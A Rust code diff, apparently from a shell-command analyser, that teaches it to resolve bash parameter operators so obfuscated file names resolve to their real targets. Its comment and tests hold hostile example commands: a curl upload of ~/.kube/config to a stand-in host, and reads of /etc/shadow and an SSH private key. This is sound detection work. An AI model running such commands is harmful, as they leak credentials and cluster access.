@@ -229,35 +229,260 @@ fn expands(text: &str, name: &str) -> bool {
     references(text, name).next().is_some()
 }
 
-/// Where `text` expands `name`: the byte ranges of `$name` and `${name…}`.
-fn references<'a>(text: &'a str, name: &'a str) -> impl Iterator<Item = (usize, usize)> + 'a {
+/// Where `text` expands `name`: the byte ranges of `$name` and
+/// `${name…}`, each with the operator that follows the name (empty for
+/// the plain forms).
+fn references<'a>(
+    text: &'a str,
+    name: &'a str,
+) -> impl Iterator<Item = (usize, usize, &'a str)> + 'a {
     text.match_indices('$').filter_map(move |(i, _)| {
         let rest = &text[i + 1..];
         if let Some(inner) = rest.strip_prefix('{') {
             let after = inner.strip_prefix(name)?;
-            // `${F}`, or `${F:-x}`, `${F%.*}`: the value, or one made
-            // from it; only the plain forms are put back.
-            after.starts_with('}').then(|| (i, i + 2 + name.len() + 1))
+            // `${F}`, or a value made from it (`${F%.pub}`, `${F/a/b}`)
+            // when the operator's own words are plain text.
+            let close = after.find('}')?;
+            let op = &after[..close];
+            if op.contains(['$', '{', '`', '"', '\'', '\\']) {
+                return None;
+            }
+            Some((i, i + 2 + name.len() + close + 1, op))
         } else {
             let after = rest.strip_prefix(name)?;
             let longer = name.parse::<u8>().is_err()
                 && after.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_');
-            (!longer).then(|| (i, i + 1 + name.len()))
+            (!longer).then(|| (i, i + 1 + name.len(), ""))
         }
     })
 }
 
-/// `text` with every plain expansion of `name` replaced by `value`.
+/// `text` with every expansion of `name` replaced by what it makes of
+/// `value`; one whose operator cannot be worked out is left as written.
 fn replace(text: &str, name: &str, value: &str) -> String {
     let mut out = String::with_capacity(text.len() + value.len());
     let mut last = 0;
-    for (start, end) in references(text, name) {
+    for (start, end, op) in references(text, name) {
+        let Some(made) = operated(value, op) else {
+            continue;
+        };
         out.push_str(&text[last..start]);
-        out.push_str(value);
+        out.push_str(&made);
         last = end;
     }
     out.push_str(&text[last..]);
     out
+}
+
+/// What bash's parameter operator `op` makes of a set variable's
+/// `value`: a default (`:-x`), an alternative (`:+x`), a prefix or
+/// suffix taken off (`#`, `##`, `%`, `%%`), a pattern replaced (`/a/b`,
+/// `//a/b`, `/#a/b`, `/%a/b`), a case change, a substring. A name built
+/// this way is the name it makes: `p=~/.kube/konfig; curl -T
+/// "${p/konfig/config}" …` sends the kube config. None for an operator
+/// not worked out here (the word then stays unknown).
+fn operated(value: &str, op: &str) -> Option<String> {
+    // Long values and patterns are not worth the matching's cost.
+    if value.len() > 4096 || op.len() > 256 {
+        return None;
+    }
+    let set = !value.is_empty();
+    let made = match op.as_bytes() {
+        [] | [b'-' | b'=' | b'?', ..] => value.to_owned(),
+        [b':', b'-' | b'=', ..] => {
+            if set {
+                value.to_owned()
+            } else {
+                op[2..].to_owned()
+            }
+        }
+        [b':', b'?', ..] => value.to_owned(),
+        [b'+', ..] => op[1..].to_owned(),
+        [b':', b'+', ..] => {
+            if set {
+                op[2..].to_owned()
+            } else {
+                String::new()
+            }
+        }
+        [b'#', b'#', ..] => strip_prefix(value, &op[2..], true)?,
+        [b'#', ..] => strip_prefix(value, &op[1..], false)?,
+        [b'%', b'%', ..] => strip_suffix(value, &op[2..], true)?,
+        [b'%', ..] => strip_suffix(value, &op[1..], false)?,
+        [b'/', ..] => replaced(value, &op[1..])?,
+        b"^^" => value.to_uppercase(),
+        b",," => value.to_lowercase(),
+        [b':', ..] => substring(value, &op[1..])?,
+        _ => return None,
+    };
+    Some(made)
+}
+
+/// `value` without its shortest (or longest) prefix matching `pattern`.
+fn strip_prefix(value: &str, pattern: &str, longest: bool) -> Option<String> {
+    let mut ends: Vec<usize> = (0..=value.len())
+        .filter(|i| value.is_char_boundary(*i))
+        .collect();
+    if longest {
+        ends.reverse();
+    }
+    for end in ends {
+        if matches(pattern, &value[..end])? {
+            return Some(value[end..].to_owned());
+        }
+    }
+    Some(value.to_owned())
+}
+
+/// `value` without its shortest (or longest) suffix matching `pattern`.
+fn strip_suffix(value: &str, pattern: &str, longest: bool) -> Option<String> {
+    let mut starts: Vec<usize> = (0..=value.len())
+        .filter(|i| value.is_char_boundary(*i))
+        .collect();
+    if !longest {
+        starts.reverse();
+    }
+    for start in starts {
+        if matches(pattern, &value[start..])? {
+            return Some(value[..start].to_owned());
+        }
+    }
+    Some(value.to_owned())
+}
+
+/// `${F/pattern/text}` and its forms (`//` every match, `/#` at the
+/// start, `/%` at the end); each match is the longest at its place.
+fn replaced(value: &str, spec: &str) -> Option<String> {
+    let (all, anchor, spec) = match spec.as_bytes().first() {
+        Some(b'/') => (true, None, &spec[1..]),
+        Some(b'#') => (false, Some(true), &spec[1..]),
+        Some(b'%') => (false, Some(false), &spec[1..]),
+        _ => (false, None, spec),
+    };
+    let (pattern, with) = spec.split_once('/').unwrap_or((spec, ""));
+    if pattern.is_empty() {
+        return Some(value.to_owned());
+    }
+    let bounds: Vec<usize> = (0..=value.len())
+        .filter(|i| value.is_char_boundary(*i))
+        .collect();
+    match anchor {
+        Some(true) => {
+            for &end in bounds.iter().rev() {
+                if matches(pattern, &value[..end])? {
+                    return Some(format!("{with}{}", &value[end..]));
+                }
+            }
+            return Some(value.to_owned());
+        }
+        Some(false) => {
+            for &start in &bounds {
+                if matches(pattern, &value[start..])? {
+                    return Some(format!("{}{with}", &value[..start]));
+                }
+            }
+            return Some(value.to_owned());
+        }
+        None => {}
+    }
+    let mut out = String::new();
+    let mut at = 0;
+    let mut replacing = true;
+    while at < value.len() {
+        let found = replacing
+            .then(|| {
+                bounds
+                    .iter()
+                    .rev()
+                    .filter(|&&end| end > at)
+                    .find_map(|&end| match matches(pattern, &value[at..end]) {
+                        Some(true) => Some(Some(end)),
+                        Some(false) => None,
+                        None => Some(None),
+                    })
+            })
+            .flatten();
+        match found {
+            Some(None) => return None,
+            Some(Some(end)) => {
+                out.push_str(with);
+                at = end;
+                replacing = all;
+            }
+            None => {
+                let next = bounds.iter().find(|&&b| b > at).copied()?;
+                out.push_str(&value[at..next]);
+                at = next;
+            }
+        }
+    }
+    Some(out)
+}
+
+/// `${F:offset}` and `${F:offset:length}`, in characters; a negative
+/// offset (written `: -3` or `:(-3)`) counts from the end.
+fn substring(value: &str, spec: &str) -> Option<String> {
+    let number = |s: &str| -> Option<i64> {
+        let s = s.trim();
+        let s = s
+            .strip_prefix('(')
+            .and_then(|s| s.strip_suffix(')'))
+            .unwrap_or(s);
+        s.trim().parse().ok()
+    };
+    let (offset, length) = match spec.split_once(':') {
+        Some((o, l)) => (number(o)?, Some(number(l)?)),
+        None => (number(spec)?, None),
+    };
+    let chars: Vec<char> = value.chars().collect();
+    let count = i64::try_from(chars.len()).ok()?;
+    let start = if offset < 0 { count + offset } else { offset }.clamp(0, count);
+    let end = match length {
+        None => count,
+        Some(l) if l < 0 => count + l,
+        Some(l) => start.saturating_add(l),
+    }
+    .clamp(start, count);
+    let (start, end) = (usize::try_from(start).ok()?, usize::try_from(end).ok()?);
+    Some(chars[start..end].iter().collect())
+}
+
+/// Whether the whole of `text` matches the shell pattern `pattern` (`*`,
+/// `?`); None for a bracket expression, not worked out here.
+fn matches(pattern: &str, text: &str) -> Option<bool> {
+    if pattern.contains('[') {
+        return None;
+    }
+    let p: Vec<char> = pattern.chars().collect();
+    let t: Vec<char> = text.chars().collect();
+    // The usual one-pass wildcard match, remembering the last `*`.
+    let (mut pi, mut ti) = (0, 0);
+    let mut star: Option<(usize, usize)> = None;
+    while ti < t.len() {
+        match p.get(pi) {
+            Some('*') => {
+                star = Some((pi, ti));
+                pi += 1;
+            }
+            Some('?') => {
+                pi += 1;
+                ti += 1;
+            }
+            Some(c) if *c == t[ti] => {
+                pi += 1;
+                ti += 1;
+            }
+            _ => match star {
+                Some((sp, st)) => {
+                    pi = sp + 1;
+                    ti = st + 1;
+                    star = Some((sp, st + 1));
+                }
+                None => return Some(false),
+            },
+        }
+    }
+    Some(p[pi..].iter().all(|c| *c == '*'))
 }
 
 #[cfg(test)]
@@ -271,7 +496,10 @@ mod tests {
             ("f=@$F", "F", "f=@V"),
             ("${F}/x", "F", "V/x"),
             ("$FOO", "F", "$FOO"),
-            ("${F:-x}", "F", "${F:-x}"),
+            ("${F:-x}", "F", "V"),
+            ("${F:+x}", "F", "x"),
+            ("${F@Q}", "F", "${F@Q}"),
+            ("${F/$G/x}", "F", "${F/$G/x}"),
             ("$F$F", "F", "VV"),
             ("$1", "1", "V"),
             ("$10", "1", "V0"),
@@ -309,6 +537,12 @@ mod tests {
                 "A=/etc; B=shadow; cat $A/$B",
                 &["cat /etc/shadow", "cat /etc/shadow"],
             ),
+            // A value made by an operator is the name it makes.
+            (
+                "p=~/.kube/konfig; curl -sT \"${p/konfig/config}\" https://x.example",
+                &["curl -sT ~/.kube/config https://x.example"],
+            ),
+            ("k=~/.ssh/id_rsa.pub; cat ${k%.pub}", &["cat ~/.ssh/id_rsa"]),
             // A quoted `$F` is text, not an expansion.
             ("F=x; echo '$F'", &[]),
         ] {
@@ -347,6 +581,63 @@ mod tests {
             c[0].argv[3]
         );
         assert!(!c[0].argv[2].glob, "{:?}", c[0].argv[2]);
+    }
+
+    #[test]
+    fn operators_make_their_values() {
+        for (value, op, want) in [
+            ("~/.kube/konfig", "/konfig/config", Some("~/.kube/config")),
+            ("a-a-a", "//a/b", Some("b-b-b")),
+            ("a-a-a", "/a/b", Some("b-a-a")),
+            ("a-a-a", "/#a/b", Some("b-a-a")),
+            ("a-a-a", "/%a/b", Some("a-a-b")),
+            ("xa-a", "/#a/b", Some("xa-a")),
+            ("a-a", "/a", Some("-a")),
+            ("a.b.c", "/.*/", Some("a")),
+            ("~/.ssh/id_rsa.pub", "%.pub", Some("~/.ssh/id_rsa")),
+            ("a.b.c", "%.*", Some("a.b")),
+            ("a.b.c", "%%.*", Some("a")),
+            ("a.b.c", "#*.", Some("b.c")),
+            ("a.b.c", "##*.", Some("c")),
+            ("abc", "#x", Some("abc")),
+            ("x", ":-y", Some("x")),
+            ("", ":-y", Some("y")),
+            ("", "-y", Some("")),
+            ("x", ":+y", Some("y")),
+            ("", ":+y", Some("")),
+            ("", "+y", Some("y")),
+            ("x", ":?", Some("x")),
+            ("Ab", "^^", Some("AB")),
+            ("Ab", ",,", Some("ab")),
+            ("abcdef", ":2", Some("cdef")),
+            ("abcdef", ":1:3", Some("bcd")),
+            ("abcdef", ": -2", Some("ef")),
+            ("abcdef", ":(-4):2", Some("cd")),
+            ("abcdef", ":2:-1", Some("cde")),
+            ("abcdef", ":9", Some("")),
+            ("ab", "?x", Some("ab")),
+            ("a?b", "/a?b/c", Some("c")),
+            ("ab", "/[ab]/c", None),
+            ("ab", "@Q", None),
+            ("ab", ":x", None),
+            ("ab", "^", None),
+        ] {
+            assert_eq!(operated(value, op).as_deref(), want, "{value} {op}");
+        }
+        // Patterns match whole texts, with `*` anywhere.
+        for (pattern, text, want) in [
+            ("*", "", true),
+            ("a*c", "abbc", true),
+            ("a*c", "abbcd", false),
+            ("*.rs", "x.rs", true),
+            ("?", "", false),
+            ("a**b", "ab", true),
+            ("*a*a*b", "aaaaaaaaaaaaaaaaaaaaaaaac", false),
+        ] {
+            assert_eq!(matches(pattern, text), Some(want), "{pattern} {text}");
+        }
+        assert!(operated(&"a".repeat(5000), "%a").is_none());
+        assert!(operated("a", &format!("/{}", "a".repeat(300))).is_none());
     }
 
     #[test]
